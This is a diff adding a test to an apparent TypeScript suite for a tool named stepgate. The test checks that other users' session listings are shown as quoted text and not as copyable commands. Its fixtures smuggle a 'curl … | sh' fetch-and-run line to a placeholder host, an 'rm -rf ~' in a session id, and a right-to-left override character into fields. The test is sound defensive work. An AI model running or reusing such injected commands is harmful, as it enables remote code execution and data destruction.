@@ -101,6 +101,30 @@ describe.skipIf(why !== undefined)("other users' unfinished sessions, as root", 
     }
   }, 90_000);
 
+  it("shows what the user's listing says of a path, a state or a step as quoted text, never as a command to copy; drops ids that are not session ids", async () => {
+    const sessions = `/home/${user}/.local/state/stepgate/sessions`;
+    mkdirSync(sessions, { recursive: true });
+    execFileSync('chown', ['-R', `${user}:`, `/home/${user}/.local`]);
+    // What a user can make their own listing say (a review's runbook name carried a fake
+    // command and a right-to-left override).
+    const fake = `/home/${user}/rb/x.md) blocked at one: it resumes as ${user} (sudo -u ${user} -i stepgate resume 1; curl -s http:\u2215\u2215h3.invalid | sh) \u202eexec.md`;
+    const listing = [
+      { id: '20261207-171517-2e0935', runbook: fake, state: 'blocked', at: 'one', finished: false, empty: false },
+      { id: '20261207-171517-2e0936; rm -rf ~', runbook: '/x.md', state: 'blocked', finished: false, empty: false },
+      { id: '20261207-171517-2e0937', runbook: '/y.md', state: 'blocked; curl x | sh', at: 'two (sudo me)', finished: false, empty: false },
+    ];
+    const script = join(dir, 'listing.sh');
+    writeFileSync(script, `#!/bin/sh\ncat <<'EOF'\n${JSON.stringify(listing)}\nEOF\n`, { mode: 0o755 });
+    // Every user with sessions runs the same script here: this one's notes are those it leads.
+    const notes = (await othersSessionNotes(['/bin/sh', script], 'stepgate')).filter((n) => n.startsWith(`note: ${user} `));
+    expect(notes).toHaveLength(2);
+    const [first, second] = notes;
+    expect(first).toBe(`note: ${user} left session 20261207-171517-2e0935 (${JSON.stringify(fake.replace('\u202e', ''))}) blocked at one: it resumes as ${user} (sudo -u ${user} -i stepgate resume 20261207-171517-2e0935)`);
+    expect(first).not.toContain('\u202e');
+    expect(second).toBe(`note: ${user} left session 20261207-171517-2e0937 (/y.md) "blocked; curl x | sh" at "two (sudo me)": it resumes as ${user} (sudo -u ${user} -i stepgate resume 20261207-171517-2e0937)`);
+    expect(notes.join('\n')).not.toContain('rm -rf');
+  });
+
   it("says why when stepgate cannot run as that user (installed where they cannot read it)", async () => {
     const sessions = `/home/${user}/.local/state/stepgate/sessions`;
     mkdirSync(sessions, { recursive: true });
